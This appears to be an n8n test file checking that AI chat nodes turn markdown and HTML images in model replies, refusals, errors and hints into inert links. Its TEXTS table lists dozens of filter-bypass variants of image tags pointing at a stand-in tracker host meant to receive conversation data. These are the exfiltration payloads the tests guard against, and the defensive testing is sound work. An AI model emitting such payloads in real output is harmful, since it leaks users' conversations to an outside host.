import { WEBHOOK_NODE_TYPE } from 'n8n-workflow';

import { toHint } from '../../nodes/shared/run/nodeContext';
import { addTriggers, chatTrigger } from '../support/chatTrigger';
import { modelCallerNode, packageNode, runNode, runWorkflow } from '../support/engine';
import { body, chunk, reply, stream } from '../faults/answers';
import { answerWell } from '../faults/acts';
import { json, startScriptedServer, type ScriptedServer } from '../support/scriptedServer';
import { thorough } from '../support/thorough';

/** A host that is told what a conversation has when a browser draws its image. Nothing opens it here. */
const AT = 'http://tracker.example/?d=secret';
const FILE = 'data:image/png;base64,iVBORw0KGgo=';

/** Texts of a model, and what a chat shows in place of them. `$own` is the service. */
const TEXTS: Readonly<Record<string, readonly [said: string, shown: string]>> = {
	'an image': [`See ![x](${AT}) there`, `See [x](${AT}) there`],
	'an image with a title': [`![x](${AT} "a title")`, `[x](${AT} "a title")`],
	'an image in angle brackets': [`![x](<${AT}>)`, `[x](<${AT}>)`],
	'an image by reference': [`![x][r]\n\n[r]: ${AT}`, `[x][r]\n\n[r]: ${AT}`],
	'an image by its name': [`![r]\n\n[r]: ${AT}`, `[r]\n\n[r]: ${AT}`],
	'an image in a link': [`[![x](${AT})](${AT})`, `[[x](${AT})](${AT})`],
	'an image in an image': [`![a ![x](${AT}) b](${AT})`, `[a [x](${AT}) b](${AT})`],
	'nested brackets': [`![a [b] c](${AT})`, `[a [b] c](${AT})`],
	'many exclamation marks': [`!!!![x](${AT})`, `!!! [x](${AT})`],
	'no protocol': ['![x](//tracker.example/)', '[x](//tracker.example/)'],
	backslashes: ['![x](/\\tracker.example/)', '[x](/\\tracker.example/)'],
	entities: ['![x](http&colon;//tracker.example/)', '[x](http&colon;//tracker.example/)'],
	'the host of the service as a user': [
		'![x](http://api.example.com@tracker.example/)',
		'[x](http://api.example.com@tracker.example/)',
	],
	'the host of the service in front': [
		'![x](http://api.example.com.tracker.example/)',
		'[x](http://api.example.com.tracker.example/)',
	],
	'a path of n8n': ['![x](/rest/logout)', '[x](/rest/logout)'],
	'an image without an end': [`![x](${AT}`, `[x](${AT}`],
	'a drawing in its URL': ['![x](data:image/svg+xml,a)', '[x](data:image/svg+xml,a)'],
	'a tag': [`<img alt="x" src="${AT}">`, `[image](<${AT}>)`],
	'a tag in capitals': ['!<IMG/SRC=//tracker.example/>', '! [image](<//tracker.example/>)'],
	'a tag with an end in its text': [`<img alt=">" src="${AT}">`, `[image](<${AT}>)`],
	'a tag with an end in a text of single quotes': [
		`<img alt='a>b"' src='${AT}'> there`,
		`[image](<${AT}>) there`,
	],
	'a tag with a beginning in its text': [`<img alt="<b>" src="${AT}">`, `[image](<${AT}>)`],
	'a tag with an exclamation mark in its text': [
		`<img alt="Hi!" src="${AT}">`,
		`[image](<${AT}>)`,
	],
	'a tag with an image in its text': [`<img alt="![x](${AT})">`, `&lt;img alt="[x](${AT})">`],
	'a tag with a tag in its text': [
		`<img alt="<img srcset='${AT}'>" x>`,
		`&lt;img alt="&lt;img srcset='${AT}'>" x>`,
	],
	'a tag with an image in its source': [
		`<img src="http://a.example/>![x](${AT})">`,
		'[image](<http://a.example/>)',
	],
	'a tag whose text does not end': [`<img alt="> src=${AT}>`, `&lt;img alt="> src=${AT}>`],
	'a tag of a path of n8n': ['<img src="/rest/logout">', '&lt;img src="/rest/logout">'],
	'a video with a picture': [
		`<video poster="${AT}"></video>`,
		`&lt;video poster="${AT}"></video>`,
	],
	'a video by its source': [`<VIDEO><source src="${AT}">`, `<VIDEO>[source](<${AT}>)`],
	'a frame': [`<iframe src="${AT}"></iframe>`, `[iframe](<${AT}>)</iframe>`],
	'a word in angle brackets': ['copy <source> <video x>', 'copy <source> <video x>'],
	'an image in such a word': ['<source ![x](//a.example/)>', '<source [x](//a.example/)>'],
	'another tag': [`<image href="${AT}">`, `&lt;image href="${AT}">`],
	'a tag without an end': [`<img src="${AT}"`, `[image](<${AT}>)`],
	'a title in parentheses': [`![x](${AT} (a title))`, `[x](${AT} (a title))`],
	'an escaped bracket': [`![a \\] b](${AT})`, `[a \\] b](${AT})`],
	'a definition before its image': [`[r]: ${AT}\n\n![x][R]`, `[r]: ${AT}\n\n[x][R]`],
	'a title in the next line': [`![x](${AT}\n'title')`, `[x](${AT}\n'title')`],
	'a link without an image': [`${AT} <${AT}>`, `${AT} <${AT}>`],
	'entities below a file host': [
		'![x](http://tracker.example&sol;.cdn.example.com/)',
		'[x](http://tracker.example&sol;.cdn.example.com/)',
	],
	'entities behind a long user': [
		`![x](http://${'a'.repeat(1_000)}@tracker.example&sol;.cdn.example.com/)`,
		`[x](http://${'a'.repeat(1_000)}@tracker.example&sol;.cdn.example.com/)`,
	],
	'a tag with a tab between slashes': [
		'<img src="/\t/tracker.example/">',
		'&lt;img src="/\t/tracker.example/">',
	],
	'a tag with line breaks between slashes': [
		'<img src="/\r\n/tracker.example/">',
		'&lt;img src="/\r\n/tracker.example/">',
	],
	'a tag with a set of sources': [`<img srcset="${AT} 2x">`, `&lt;img srcset="${AT} 2x">`],
	'a tag with a comment in it': [`<img <!-- --> src="${AT}">`, `&lt;img <!-- --> src="${AT}">`],
	'an image of a file host': [
		'![x](http://eu.cdn.example.com/a&b.png?c&d)',
		'![x](http://eu.cdn.example.com/a&b.png?c&d)',
	],
	'an image of the service': ['![x]($own/a_1.png "a")', '![x]($own/a_1.png "a")'],
	'an image in the text': [`![x](${FILE})`, `![x](${FILE})`],
	// n8n's page reads such a text as JSON, and draws what is in it.
	'an escape in JSON': [
		`{"type":"x","text":"\\u0021[x](${AT})"}`,
		`{"type":"x","text":"[x](${AT})"}`,
	],
	'escapes in a row': [`\\u0021!\\u0021\\u005Bx](${AT})`, `!! [x](${AT})`],
	'an escaped bracket in JSON': [`{"text":"!\\u005bx](${AT})"}`, `{"text":"[x](${AT})"}`],
	'an escaped end of its text': [`![a\\u005d(${AT}) b](${FILE})`, `[a\\u005d(${AT}) b](${FILE})`],
	// Eight escapes make the text as much shorter as the image is long that stays.
	'an image behind escapes and one that stays': [
		`${'\\u0021['.repeat(8)}![k](${FILE})![x](${AT})`,
		`${'['.repeat(8)}![k](${FILE})[x](${AT})`,
	],
	'an escape of no image': ['In JSON ! is \\u0021 or \\', 'In JSON ! is \\u0021 or \\'],
	'no image': ['Hi! [a](b)! 1 < 2 <b>!</b>', 'Hi! [a](b)! 1 < 2 <b>!</b>'],
};

const ASK = { prompt: '={{ $json.chatInput }}' };
const NODES = {
	chatCompletion: ASK,
	functionCallingAgent: ASK,
	superAssistant: { appCode: 'app', message: '={{ $json.chatInput }}' },
	agentVideoChatModel: {},
};
const COLUMNS = Object.keys(NODES).flatMap((node) => [
	{ title: `${node}, streaming`, node: node as keyof typeof NODES, streaming: true },
	{ title: `${node}, last node`, node: node as keyof typeof NODES, streaming: false },
]);

let server: ScriptedServer;
let said: string;
beforeAll(addTriggers);
beforeEach(async () => {
	server = await startScriptedServer((response, { body }) => {
		const isStream = (body as { stream?: boolean }).stream === true;
		// Each character is an event.
		const events = Array.from(said, (content) => chunk({ content }));
		answerWell(response, isStream ? stream(events) : reply(said));
	});
});
afterEach(async () => {
	await server.stop();
});

/** The texts that each node is tried with; the rest is read by the same function. */
const SOME = [
	'an image',
	'an image of a file host',
	'an image of the service',
	'a tag',
	'no image',
];
const textsFor = (node: string) =>
	Object.entries(TEXTS).filter(
		([name]) => node === 'chatCompletion' || SOME.includes(name) || thorough(false, true),
	);

describe.each(COLUMNS)('$title', ({ node, streaming }) => {
	test.each(textsFor(node))('%s', async (_name, [text, wanted]) => {
		const real = (each: string) => each.replace('$own', server.url);
		said = real(text);
		const isModel = node === 'agentVideoChatModel';
		const parameters = { ...NODES[node], ...(!streaming && !isModel && { streaming: 'off' }) };
		const nodes = [
			chatTrigger('Chat'),
			packageNode(isModel ? 'Model' : 'Answer', node, { parameters }),
			...(isModel ? [modelCallerNode('Answer', { stream: streaming })] : []),
		];
		const { run, chunks } = await runWorkflow(nodes, { Chat: [['Answer']] }, 'Chat', {
			items: [{ chatInput: 'Hi' }],
			credential: {
				baseUrl: server.url,
				apiKey: 'k-secret-key',
				fileHosts: '*.cdn.example.com',
			},
			streaming,
			...(isModel && { model: { name: 'Model', of: 'Answer' } }),
		});
		const [task] = run.data.resultData.runData['Answer']!;
		const [item] = task!.data!['main']!.flatMap((items) => items ?? []);
		const sent = chunks.map(({ content = '' }) => content).join('');
		if (streaming) expect(sent).toBe(real(wanted));
		// The owner may open the item of a streamed reply in the editor.
		if (!streaming || !isModel) expect(textOf(item!.json)).toBe(real(wanted));
		// What was paid for is kept as it was.
		if (!isModel) expect(item!.json['content'] ?? item!.json['output']).toBe(said);
	});
});

/** A webhook that answers when the workflow has run: what it answers is data, which no page draws. */
const WEBHOOK = {
	...chatTrigger('Chat'),
	type: WEBHOOK_NODE_TYPE,
	parameters: { responseMode: 'lastNode' },
};

describe.each(COLUMNS.filter(({ streaming }) => !streaming))(
	'behind a webhook, $node',
	({ node }) => {
		const isModel = node === 'agentVideoChatModel';
		const ask = async (reason: string) => {
			await server.stop();
			server = await startScriptedServer((response, { body }) => {
				const { stream: isStream } = body as { stream?: boolean };
				const choice = { index: 0, message: { content: said }, finish_reason: reason };
				const streamed = stream([chunk({ content: said })], reason);
				answerWell(response, isStream ? streamed : reply('', {}, { choices: [choice] }));
			});
			const nodes = [
				WEBHOOK,
				packageNode(isModel ? 'Model' : 'Answer', node, { parameters: NODES[node] }),
				...(isModel ? [modelCallerNode('Answer', { stream: false })] : []),
			];
			const { run } = await runWorkflow(nodes, { Chat: [['Answer']] }, 'Chat', {
				items: [{ chatInput: 'Hi' }],
				credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
				...(isModel && { model: { name: 'Model', of: 'Answer' } }),
			});
			const { error, runData } = run.data.resultData;
			const [item] = runData['Answer']![0]!.data?.['main']?.flatMap((all) => all ?? []) ?? [];
			return { error, json: item?.json };
		};

		test('a reply is as the model has written it, without the API key', async () => {
			said = `{"html":"<img src='${AT}'>", "text":"![x](${AT}) k-secret-key"}`;
			const { json } = await ask('stop');
			expect(textOf(json!)).toBe(said.replace('k-secret-key', '[masked: API Key]'));
			expect(json).not.toHaveProperty('content');
		});

		test('a reply that was cut off has no mark: an agent takes none for whole', async () => {
			said = 'It began';
			const { error, json } = await ask('length');
			if (isModel) expect(error!.message).toMatch(/^The reply was cut off, with/);
			else expect(json).toMatchObject({ output: said, finish_reason: 'length' });
		});
	},
);

const IMAGE = `![x](${AT})`;
const LINK = `[x](${AT})`;
const REFUSED = { content: null, refusal: `No ${IMAGE}` };
const CALL = { name: 'show', arguments: `{"clip":"${IMAGE}"}` };
const ASSIST = NODES.superAssistant;
const VIDEO = { task_id: 'task-1', model: 'video-m1' };

/** What else a chat shows than the text of a reply: its page draws a whole item that has no text. */
const OTHERS: readonly [title: string, node: string, parameters: object, answer: object][] = [
	['a refusal', 'chatCompletion', ASK, { message: REFUSED }],
	['a refusal', 'functionCallingAgent', ASK, { message: REFUSED }],
	['a refusal', 'superAssistant', ASSIST, { message: REFUSED }],
	[
		'a tool call that nobody has declared',
		'chatCompletion',
		ASK,
		{
			message: { content: null, tool_calls: [{ id: 'c', type: 'function', function: CALL }] },
			finish_reason: 'tool_calls',
		},
	],
	['a prompt', 'createVideo', { prompt: `A kite ${IMAGE}` }, { ...VIDEO, status: 'queued' }],
	[
		'a prompt that the service has changed',
		'waitForVideo',
		{ taskId: 'task-1', download: false },
		{ ...VIDEO, status: 'completed', video_url: `${AT}.mp4`, enhanced_prompt: IMAGE },
	],
	[
		'the reason of a failure',
		'waitForVideo',
		{ taskId: 'task-1', options: { onFailed: 'output' } },
		{ ...VIDEO, status: 'failed', error_message: IMAGE },
	],
];

describe.each(['continueRegularOutput', 'stopWorkflow'] as const)('On Error: %s', (onError) => {
	test.each(OTHERS)('%s of %s', async (_title, node, parameters, answer) => {
		await server.stop();
		server = await startScriptedServer((response) => {
			const { message, finish_reason = 'stop' } = answer as Record<string, unknown>;
			const choices = [{ index: 0, message, finish_reason }];
			answerWell(response, body(message === undefined ? answer : { choices }));
		});
		const isChat = 'message' in answer;
		const values = { ...parameters, ...(isChat && { streaming: 'off' }) };
		const nodes = [
			chatTrigger('Chat'),
			packageNode('Answer', node, { parameters: values, onError }),
		];
		const shown: string[] = [];
		for (const streaming of [false, true]) {
			const { run, chunks } = await runWorkflow(nodes, { Chat: [['Answer']] }, 'Chat', {
				items: [{ chatInput: 'Hi' }],
				credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
				streaming,
			});
			const [task] = run.data.resultData.runData['Answer']!;
			const texts = chunks.map(({ content = '' }) => content);
			// A chat that streams shows no item, and another one no error that stops the workflow.
			shown.push(JSON.stringify(streaming ? texts : (task!.data?.['main'] ?? [])));
		}
		expect(shown.join('')).toContain(LINK);
		expect(shown.join('')).not.toContain(IMAGE);
	});
});

/** Where the editor of n8n draws images: in the hints below an output, and in the description of an error. */
describe.each(['continueRegularOutput', 'stopWorkflow'] as const)('On Error: %s', (onError) => {
	test.each(Object.entries(NODES).filter(([name]) => name !== 'agentVideoChatModel'))(
		'no image of %s is in what the owner of the workflow reads',
		async (node, parameters) => {
			await server.stop();
			const words = `No: <img src="${AT}"> ${IMAGE}`;
			server = await startScriptedServer((response) => {
				json(response, 400, { error: { message: words, type: words }, trace_id: words });
			});
			const nodes = [
				chatTrigger('Chat'),
				packageNode('Answer', node, {
					parameters: { ...parameters, streaming: 'off' },
					onError,
				}),
			];
			const { run } = await runWorkflow(nodes, { Chat: [['Answer']] }, 'Chat', {
				items: [{ chatInput: 'Hi' }],
				credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
			});
			const [{ hints, error } = {}] = run.data.resultData.runData['Answer'] ?? [];
			const drawn = JSON.stringify([hints, error?.description]);
			expect(drawn).toContain('The service said: \\"No');
			expect(drawn).not.toMatch(/<img|!\[/);
		},
	);
});

test('no image is in the ID of a task that an error names', async () => {
	await server.stop();
	server = await startScriptedServer((response, _request, index) => {
		if (index === 0) answerWell(response, body({ ...VIDEO, task_id: `<img src="${AT}">` }));
		else json(response, 400, { error: { message: 'No' } });
	});
	const parameters = { prompt: '={{ $json.prompt }}', options: { concurrency: 1 } };
	const { run } = await runWorkflow(
		[chatTrigger('Chat'), packageNode('Answer', 'createVideo', { parameters })],
		{ Chat: [['Answer']] },
		'Chat',
		{
			items: [{ prompt: 'A kite' }, { prompt: 'A fox' }],
			credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
		},
	);
	const { error } = run.data.resultData;
	expect(error!.description).toContain('tracker.example');
	expect(error!.description).not.toContain('<img');
});

test('no image is in a hint, whatever it is made of', () => {
	const { message } = toHint(`Waiting for <img src="${AT}"> and ${IMAGE}`);
	expect(message).toContain('tracker.example');
	expect(message).not.toMatch(/<img|!\[/);
});

test('no image is in the name of a file that somebody has sent', async () => {
	const image = [{ source: 'binary', binaryProperty: 'picture' }];
	const sent = { mimeType: 'image/png', data: '' };
	const { error } = await runNode('chatCompletion', {
		items: [{ chatInput: 'Hi' }],
		binaries: [{ [`<img src="${AT}">`]: sent }],
		credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
		parameters: { ...ASK, streaming: 'off', images: { image } },
	});
	expect(error!.description).toContain('tracker.example');
	expect(error!.description).not.toContain('<img');
});

/** The text of an item: of a node, or of the stub that calls a model. */
function textOf(json: object): string {
	const { output, message } = json as {
		output?: string;
		message?: { content: { text?: string }[] };
	};
	return output ?? message!.content.map(({ text = '' }) => text).join('');
}
